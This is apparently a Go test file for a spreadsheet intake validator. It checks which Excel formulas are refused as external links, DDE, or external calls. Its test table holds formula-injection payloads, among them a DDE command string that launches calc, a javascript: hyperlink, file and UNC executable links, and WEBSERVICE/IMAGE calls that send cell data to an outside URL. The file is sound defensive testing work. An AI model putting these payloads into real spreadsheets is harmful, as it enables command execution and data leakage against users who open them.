package intake_test

import (
	"encoding/xml"
	"errors"
	"strings"
	"testing"

	"github.com/jetsheet/jetsheet/renderer/xlsx/intake"
	"github.com/jetsheet/jetsheet/renderer/xlsx/intake/intaketest"
)

func TestFormulasThatLeadOut(t *testing.T) {
	t.Parallel()
	for formula, want := range map[string]intake.Cause{
		`SUM(A1:A3)`:                             "",
		`SUM('点検 表'!A1:A3)`:                      "",
		`SUM(Table1[Amount])`:                    "",
		`SUM(Table1[[#This Row],[a]:[b]])`:       "",
		`SUM(Table1[['[odd'|name]])`:             "",
		`表1[[#Totals],[金額]]`:                     "",
		`SUBTOTAL(109,[Qty])`:                    "",
		`[[#This Row],[Qty]]*[[#This Row],[円]]`:  "",
		`SUM([@Qty],['[odd'] name])/[Qty]`:       "",
		`"[1]Sheet1!A1"`:                         "",
		`"a ""quoted"" | text"&A1`:               "",
		`'It''s'!A1&"cmd|x"`:                     "",
		`{1,2;3,4}`:                              "",
		`HYPERLINK("https://example.com","a")`:   "",
		`HYPERLINK("#'100%'!A1","a")`:            "",
		`HYPERLINK("[#]Sheet1!A1")`:              "",
		`HYPERLINK("mailto:"&A1)`:                "",
		`HYPERLINK(A1,"file://a")`:               "",
		`HYPERLINK("file://server/a.exe","a")`:   intake.CauseExternalLink,
		`1&hyperlink( "JavaScript:alert(1)")`:    intake.CauseExternalLink,
		`HYPERLINK("\\server\share\"&A1)`:        intake.CauseExternalLink,
		`HYPERLINK("C:\a.exe")`:                  intake.CauseExternalLink,
		`HYPERLINK("`:                            "",
		`MY.CALL(1)`:                             "",
		`CALLS+1`:                                "",
		`[1]Sheet1!A1`:                           intake.CauseExternalLink,
		`SUM(A1,[1]Sheet1!A1)`:                   intake.CauseExternalLink,
		`'[1]Sheet 1'!A1`:                        intake.CauseExternalLink,
		`'C:\x\[It''s.xlsx]S'!A1`:                intake.CauseExternalLink,
		`[1]品目!A1`:                               intake.CauseExternalLink,
		`SUBTOTAL(109,[Qty])+[b.xlsx]Jan:Mar!A1`: intake.CauseExternalLink,
		`['[odd.xlsx]S!A1`:                       intake.CauseExternalLink,
		`[unclosed`:                              intake.CauseExternalLink,
		`[1]!Name`:                               intake.CauseExternalLink,
		`"a"&[1]Sheet1!A1`:                       intake.CauseExternalLink,
		`cmd|'/c calc'!A1`:                       intake.CauseDDE,
		`"a"&"b"|x!y`:                            intake.CauseDDE,
		`webservice (A1)`:                        intake.CauseExternalCall,
		`1+webservice(A1)`:                       intake.CauseExternalCall,
		`_xlfn.IMAGE("https://example.com/"&A1)`: intake.CauseExternalCall,
		`"unclosed`:                              "",
		`'unclosed`:                              "",
		`Table1[unclosed`:                        "",
	} {
		var escaped strings.Builder
		if err := xml.EscapeText(&escaped, []byte(formula)); err != nil {
			t.Fatal(err)
		}
		_, err := intake.Check(intaketest.FormWithFormula(escaped.String()), intake.Limits{})
		var refused *intake.RefusedError
		switch {
		case want == "" && err != nil:
			t.Errorf("%s: refused: %v", formula, err)
		case want != "" && (!errors.As(err, &refused) || !refused.Has(want)):
			t.Errorf("%s: got %v, want %s", formula, err, want)
		}
	}
}
